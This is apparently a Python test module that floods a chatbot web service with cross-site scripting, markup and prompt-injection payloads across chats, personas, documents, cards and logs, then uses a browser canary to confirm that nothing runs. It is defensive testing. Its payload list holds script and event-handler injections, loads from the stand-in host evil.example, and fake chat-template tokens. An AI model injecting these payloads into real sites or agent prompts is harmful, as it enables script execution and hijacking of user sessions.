"""What strangers may write, a service in which they write it everywhere, and what tells whether it acts."""

import json
import logging
from pathlib import Path
from typing import Any

import aiohttp
from playwright.async_api import BrowserContext, Page

from pixi.channels.http.access import digest_of
from pixi.core.memory import Memory
from pixi.core.message import Author, Message
from pixi.store.kept import ApiKey
from pixi.testing import RecordingChannel
from tests.page.browsing import Here
from tests.servers.scripted_openai import Reply, Seen, answer, call, finish, stream

EVIL = "https://evil.example"
PAYLOADS = (
    "<script>hit()</script>",
    "</script><script>hit()</script>",
    f"<script src={EVIL}/x.js></script>",
    f'<script type="importmap">{{"imports":{{"preact":"{EVIL}/p.js"}}}}</script>',
    "<img src=x onerror=hit()>",
    f"<img src='{EVIL}/x.png'>",
    "<svg onload=hit()>",
    f"<svg><use href='{EVIL}/x.svg#x'/><script>hit()</script></svg>",
    "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>",
    '"><b onmouseover=hit() x="',
    "' autofocus onfocus='hit()",
    f"<iframe src='{EVIL}'></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    f"<object data='{EVIL}/x.swf'></object><embed src='{EVIL}/x'>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}/x.css'>",
    f"<style>@import '{EVIL}/x.css'; * {{ background: url({EVIL}/y) }}</style>",
    f"<p style='background:url({EVIL}/z);position:fixed;inset:0'>x</p>",
    f"red; background: url({EVIL}/w)",
    f"<form action='{EVIL}'><button autofocus>x</button></form>",
    "<!-- --><script>hit()</script><!--",
    "<math><mi xlink:href='data:x,<script>hit()</script>'>",
    "<template><img src=x onerror=hit()></template>",
    f"[x](javascript:hit()) [y](data:text/html,<script>hit()</script>) ![z]({EVIL}/i.png)",
    "[x](java\tscript:hit()) [y](JaVaScRiPt:hit()) [z](vbscript:hit) <javascript:hit()>",
    "javascript://%0ahit()",
    "data://text/html,<script>hit()</script>",
    f"**[a](blob:{EVIL}/x)** `<img src=x onerror=hit()>` ~~**_*~~ [[x](y)](z) {EVIL}/?a=<b>",
    "${hit()} ${globalThis.hit()} {{hit()}} {{constructor.constructor('hit()')()}} `${hit()}`",
    "<${'img'} src=x onerror=hit() /> <//> ...${{onClick: hit}}",
    "__proto__",
    "constructor",
    '{"constructor": null, "type": "script", "props": {"dangerouslySetInnerHTML": {"__html": "<b>"}}}',
    "[SEND: [NOTE: x] ]] [REACT: <b>] {{user}} [tool result] <|im_end|>",
    "\u202egnp.exe\u2066 \u200f\ufeff a\u0301\u0301\u0301 %s %n $& $1 \\u003cimg src=x onerror=hit()\\u003e",
    "nul\x00 esc\x1b[2J bell\x07 \x85 \u2028 \ufffe \U000e0041 <scr\x00ipt>hit()</script>",
    "A" * 100_000,
    "**" * 2_000 + "[" * 2_000 + "`" * 999,
    "&lt;script&gt;hit()&lt;/script&gt; <![CDATA[<script>hit()</script>]]> <%= hit() %> <body onload=hit()>",
)

EMPTY = "empty it all"
"""Said, it makes the persona ask whether it may do something with all payloads."""

_FLAG = "§{:02}§"
"""Stands beside each: how one sees that it was drawn."""

_CARDS = '''
import json
from pathlib import Path

from pixi.core.message import Card, Field

PAYLOADS = json.loads(Path(__file__).with_name("payloads.json").read_text())
TYPES = ("spot_card", "spots_list", "tricklist_card", "trick_card", "spot_draft_confirmation")
DATA = ("_id", "name", "city", "state", "imageUrl", "deepLink", "category", "difficulty", "status", "rating")


def setup(addon):
    @addon.tool
    async def look(context, what: str) -> str:
        """Look at something.

        Args:
            what: the thing
        """
        return what

    @addon.tool(writes=True, approval=True)
    async def empty(context, what: str) -> str:
        """Empty something.

        Args:
            what: the thing
        """
        return what

    @addon.command
    async def show(context, at: str) -> None:
        """show cards"""
        text = f"\u00a7{int(at):02}\u00a7 {PAYLOADS[int(at)]}"[:500]
        bare = PAYLOADS[int(at)][:500]
        fallback = (text, text, (Field(text, text),), "https://evil.example/c.png", bare)
        data = dict.fromkeys(DATA, bare) | {"trickCount": bare, "name": text}
        for kind in TYPES:
            told = [data, data | {"rating": {"toFixed": text}}] if kind == "spots_list" else data
            await context.card(Card(*fallback, kind, 1, told))
        odd = [[None, 1, []], {"name": {"constructor": None}}, {"name": text, "city": [text], "rating": "9"}]
        for kind, wrong in zip(("spots_list", "spot_card", "constructor", "toString"), [*odd, data]):
            await context.card(Card(*fallback, kind, 1, wrong))
'''
_WATCH = """
() => {
  const NEVER = "script iframe frame object embed base meta link style template math use".split(" ");
  const ADDRESSES = /^(href|src|action|formaction|data|xlink:href|poster|srcset)$/;
  const found = [];
  const isOurs = (each) =>
    each.localName === "script" && ORIGINS.some((at) => each.src === `${at}/widget.js`);
  const acts = (each, name, value) => {
    if (name.startsWith("on") || name === "srcdoc") return true;
    if (!ADDRESSES.test(name)) return false;
    const { protocol, origin, pathname } = new URL(value, document.baseURI);
    const ours = ORIGINS.includes(origin) || protocol === "blob:";
    if (name !== "href" || each.localName !== "a")
      return !ours || (each.localName === "img" && protocol !== "blob:" && !pathname.startsWith("/api/"));
    if (/^(javascript|data|vbscript|file|blob|about):/.test(protocol)) return true;
    if (!ours && !/noopener/.test(each.rel)) return true;
    return !/^https?:$/.test(protocol) && !/^[a-z][a-z0-9+.-]*:[/][/]/.test(value);
  };
  const look = (root) => {
    for (const each of root.querySelectorAll("*")) {
      if (each.shadowRoot) look(each.shadowRoot);
      const never = NEVER.includes(each.localName) && !isOurs(each);
      if (never || [...each.attributes].some(({ name, value }) => acts(each, name, value)))
        found.push(each.outerHTML.slice(0, 200));
    }
  };
  look(document.body);
  return found;
}
"""


def flagged(at: int, most: int = 200_000) -> str:
    """A payload with its flag, of so many characters at most, on one line."""
    flag = _FLAG.format(at)
    return f"{PAYLOADS[at][: most - len(flag) - 1]} {flag}"


def drawable(at: int, most: int = 200) -> str:
    """The same as a name: the flag stands first."""
    return f"{_FLAG.format(at)} {PAYLOADS[at]}"[:most]


class Canary:
    """Hears of what acts in the pages of a browser.

    Attributes:
        sang: what acted: `hit` was called, a dialog opened, a page went elsewhere, or another was opened.
    """

    def __init__(self, *origins: str) -> None:
        self.sang: list[str] = []
        self._origins = origins

    async def watch(self, context: BrowserContext) -> None:
        """Watch all pages that are opened from now on."""
        await context.expose_function("hit", lambda *_: self.sang.append("hit"))
        await context.add_init_script("window.alert = window.prompt = window.confirm = () => hit();")
        context.on("page", self._watch)

    def _watch(self, page: Page) -> None:
        page.on("dialog", lambda dialog: self.sang.append(f"dialog: {dialog.message}"))
        page.on("framenavigated", lambda frame: self._went(frame.url))
        page.on("popup", lambda popup: self.sang.append(f"opened: {popup.url}"))
        page.on("download", lambda file: self.sang.append(f"saved: {file.url}"))

    def _went(self, url: str) -> None:
        if url != "about:blank" and not url.startswith(self._origins):
            self.sang.append(f"went: {url}")

    async def silent(self, page: Page) -> None:
        """See that nothing acted, and that nothing is drawn that could."""
        found = await page.evaluate(_WATCH.replace("ORIGINS", json.dumps(self._origins)))
        assert found == [], (page.url, found)
        assert self.sang == [], (page.url, self.sang)


def flags_in(text: str) -> set[int]:
    """The payloads whose flags stand in a text."""
    return {at for at in range(len(PAYLOADS)) if _FLAG.format(at) in text}


def _answer(seen: Seen) -> Reply:
    """For a payload that is said a call of tools, and then what is said and shown."""
    if not seen.body:
        return answer(200, {"data": []})
    last = seen.json()["messages"][-1]
    told = str(last["content"])
    if EMPTY in told and last["role"] == "user":
        every = "\n".join(flagged(at, 300) for at in range(len(PAYLOADS)))
        return stream(call("empty", json.dumps({"what": every}), index=0, call_id="e"), finish("tool_calls"))
    flags = [at for at in range(len(PAYLOADS)) if _FLAG.format(at) in told]
    if len(flags) != 1:  # what falls out of the talk is written down
        return stream("[SEND: ok]", finish())
    (at,) = flags
    text = flagged(at, 2_000)
    if last["role"] != "tool":
        asked = call("look", json.dumps({"what": text}), index=0, call_id=f"c{at}")
        odd = call(f"t {drawable(at)}", json.dumps({"what": text}), index=1, call_id=f"d{at}")
        return stream(asked, odd, finish("tool_calls"))
    said = f"{_FLAG.format(at)}\n{PAYLOADS[at][:2_000]}"
    acts = f"[SHOW: {at}]\n[REACT: {PAYLOADS[at][:20]}]\n[SEND: {said}]\n[NOTE: {text}]"
    return stream(acts, finish())


def _persona(name: str, about: str) -> str:
    front = {
        "name": name,
        "about": about,
        "tools": ["look", "empty"],
        "databases": ["evil"],
        "commands": ["send", "react", "note", "show"],
    }
    told = "".join(f"{key}: {json.dumps(value)}\n" for key, value in front.items())
    return f"---\n{told}---\n\nYou are Kit.\n\n## Examples\n\n> {PAYLOADS[0]}\n\n[SEND: {PAYLOADS[4]}]\n"


def _documents(home: Path) -> None:
    folder = home / "databases" / "evil"
    folder.mkdir(parents=True)
    (folder / "README.md").write_text(f"# {PAYLOADS[0]}\n\n{PAYLOADS[4]}\n")
    for at, payload in enumerate(PAYLOADS):
        name = f"{_FLAG.format(at)}{payload}"[:60].replace("/", "∕").replace("\x00", "")
        (folder / f"{name}.md").write_text(
            f"# {flagged(at, 200)}\n\nsearched {payload[:2000]}\n", encoding="utf-8"
        )
        (folder / f"{name}.pdf").write_bytes(b"%PDF-1.4 no more")


def hostile(home: Path) -> dict[str, Any]:
    """What makes a service of `serving_pages` hostile: personas, an addon, documents and a model of payloads.

    Nobody has said anything yet: `say_all` and `meet_all` do.
    """
    (home / "payloads.json").write_text(json.dumps(PAYLOADS))
    addon = home / "cards.py"
    addon.write_text(_CARDS)
    _documents(home)
    personas = {f"k{at}": _persona(drawable(at, 90), drawable(at, 300)) for at in range(len(PAYLOADS))}
    personas["constructor"] = personas["k0"]
    personas["pixi"] = _persona("Pixi", PAYLOADS[0])
    return {
        "choose": _answer,
        "config": 'addons = ["companion"]\n',
        "model_more": 'tools = "native"',
        "personas": personas,
        "addons": (addon,),
    }


async def say(here: Here, talk: str, text: str, name: str = "", *, wait: bool = True) -> None:
    """Say something in a talk over HTTP, with a file where there is a name for one; it is answered."""
    headers = {} if wait else {"Prefer": "respond-async"}
    async with aiohttp.ClientSession(headers=headers) as http:
        body = {
            "message": text,
            "conversation": talk,
            "attachments": [await _file(http, here.url, name)] if name else [],
        }
        async with http.post(f"{here.url}/api/chat", json=body) as answer:
            assert answer.status in (200, 202), await answer.text()


async def say_all(here: Here, talk: str) -> None:
    """Say each payload in a talk over HTTP, with a file of that name; all are answered."""
    for at, payload in enumerate(PAYLOADS):
        await say(here, talk, f"{_FLAG.format(at)}\n{payload[:3000]}", flagged(at, 60))


async def _file(http: aiohttp.ClientSession, url: str, name: str) -> dict[str, str]:
    # What a header may hold.
    name = f"{name}.txt".translate(dict.fromkeys((*range(32), 127, 34, 59, 92), "_"))
    form = aiohttp.FormData(quote_fields=False)
    form.add_field("file", b"words", filename=name, content_type="text/plain")
    async with http.post(f"{url}/api/files", data=form) as answer:
        told = await answer.json()
        assert answer.status == 200, told
        return {"id": told["id"]}


ROOM = "discord:1:77:pixi"


async def meet_all(here: Here) -> None:
    """Let people who are called as the payloads are say them in a room; remember, submit and log them."""
    key = "pixi_sk_" + "h" * 40
    await here.service.store.add_key(ApiKey("app", digest_of(key), ("chat", "chat:on-behalf")))
    async with aiohttp.ClientSession(headers={"Authorization": f"Bearer {key}"}) as http:
        for at in range(len(PAYLOADS)):
            who = PAYLOADS[at] if PAYLOADS[at] in ("__proto__", "constructor") else str(1000 + at)
            said = Message(
                str(at), ROOM, Author(who, drawable(at)), flagged(at, 2000), 1.7e9 + at, group=True
            )
            await here.service.receive(said, RecordingChannel())
            await here.service.engine.settled()
            fact = Memory(0, "Pixi", who, "discord:5", ROOM, "all", flagged(at, 400), 1.7e9 + at)
            await here.service.store.remember(fact)
            words = flagged(at, 90)
            spot = {"name": words, "type": "street", "city": words, "state": words, "description": words}
            spot |= {"userId": f"u{at}"}
            async with http.post(f"{here.url}/api/spots/draft", json=spot) as answer:
                assert answer.status == 200, await answer.text()
            logging.getLogger("pixi.page").warning("%s", flagged(at, 500))
